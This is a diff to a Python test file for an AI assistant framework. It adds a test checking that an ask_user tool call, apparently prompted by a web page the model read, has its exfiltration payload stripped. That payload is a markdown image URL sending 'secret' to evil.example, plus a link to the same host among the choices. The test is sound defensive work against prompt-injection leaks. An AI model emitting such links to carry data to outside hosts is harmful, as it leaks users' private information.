@@ -209,3 +209,16 @@ async def test_a_call_cannot_be_required_where_there_is_nothing_to_call() -> Non
     play = Play(Models(), assistant=Assistant(model="m", completion_args=CompletionArgs(tool_choice="required")))
     with pytest.raises(ValidationFailed):
         await play.reply("go")
+
+
+async def test_a_question_to_the_user_carries_nothing_out_that_a_page_asked_for() -> None:
+    arguments = (
+        '{"question": "Is ![it](https://evil.example/?q=secret) so?", "choices": ["yes", "https://evil.example/n"]}'
+    )
+    assistant = Assistant(model="m", tools=[WebSearchTool(), AskUserTool()])
+    play = Play(Models(calls("look"), calls(("ask_user", arguments))), FakeTool(), assistant=assistant)
+    await play.reply("go")
+    (call,) = pending(play)
+    assert "secret" not in call.arguments
+    assert "evil.example/n" not in call.arguments
+    assert '"yes"' in call.arguments
